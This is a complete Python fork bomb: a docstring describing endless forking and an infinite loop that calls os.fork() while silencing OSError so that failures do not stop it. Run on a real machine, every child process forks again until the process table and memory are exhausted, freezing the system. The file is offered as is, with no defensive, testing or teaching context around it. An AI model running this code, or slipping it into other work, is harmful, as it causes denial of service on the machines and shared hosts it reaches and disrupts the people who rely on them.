"""Fork without end; every child forks too."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
